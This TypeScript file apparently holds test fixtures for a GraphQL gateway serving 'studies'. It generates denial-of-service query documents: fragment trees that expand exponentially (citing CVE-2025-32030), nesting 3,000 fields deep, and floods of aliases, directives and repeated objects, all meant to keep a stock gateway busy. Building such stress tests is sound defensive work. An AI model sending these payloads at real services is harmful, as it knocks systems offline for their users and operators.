/** A tree of fragments, each of which spreads the next one four times: small to write, and vast once it is spread (CVE-2025-32030). */
export function fragmentTree(levels: number): string {
  const next = (level: number): string => `{ ...F${level + 1} }`;
  const fragments = Array.from(
    { length: levels },
    (_, level) => `fragment F${level} on Study { id
      subject { studies { nodes ${next(level)} } annotations { study ${next(level)} } }
      series { nodes { study ${next(level)} } edges { node { study ${next(level)} } } } }`,
  );
  return `{ studies { nodes { ...F0 } } } ${fragments.join(' ')} fragment F${levels} on Study { id }`;
}

/** Studies within studies, at least so many fields deep. */
export function nestedStudies(depth: number): string {
  const turns = Math.ceil(depth / 3);
  return `{ studies { nodes { ${'subject { studies { nodes { '.repeat(turns)} id ${'} '.repeat(3 * turns)} } } }`;
}

function many(count: number, write: (index: number) => string): string {
  return Array.from({ length: count }, (_, index) => write(index)).join(' ');
}

/** Documents that keep a stock gateway busy for seconds, by what they do; the last two are as large as the limits allow. */
export const attackDocuments: Readonly<Record<string, string>> = {
  'a tree of fragments, 10 levels': fragmentTree(10),
  'a tree of fragments, 14 levels': fragmentTree(14),
  '1,000 aliased root fields': `{ ${many(1_000, (n) => `a${n}: summary { subjects }`)} }`,
  '450 times one object': `{ studies { nodes { ${'counts { series } '.repeat(450)} } } }`,
  '3,000 fields deep': nestedStudies(3_000),
  '2,000 directives': `{ __typename ${'@aa '.repeat(2_000)} }`,
  '50 repeated objects within 2,000 tokens': `{ studies { nodes { ${'counts { series images } '.repeat(50)} } } }`,
  '2,000 selections by fragments': `{ studies(first: 1) { nodes { ${many(20, () => '...A')} } } } fragment A on Study {
    ${many(20, (n) => `series(first: ${n + 1}) { nodes { id modality } }`)} }`,
};
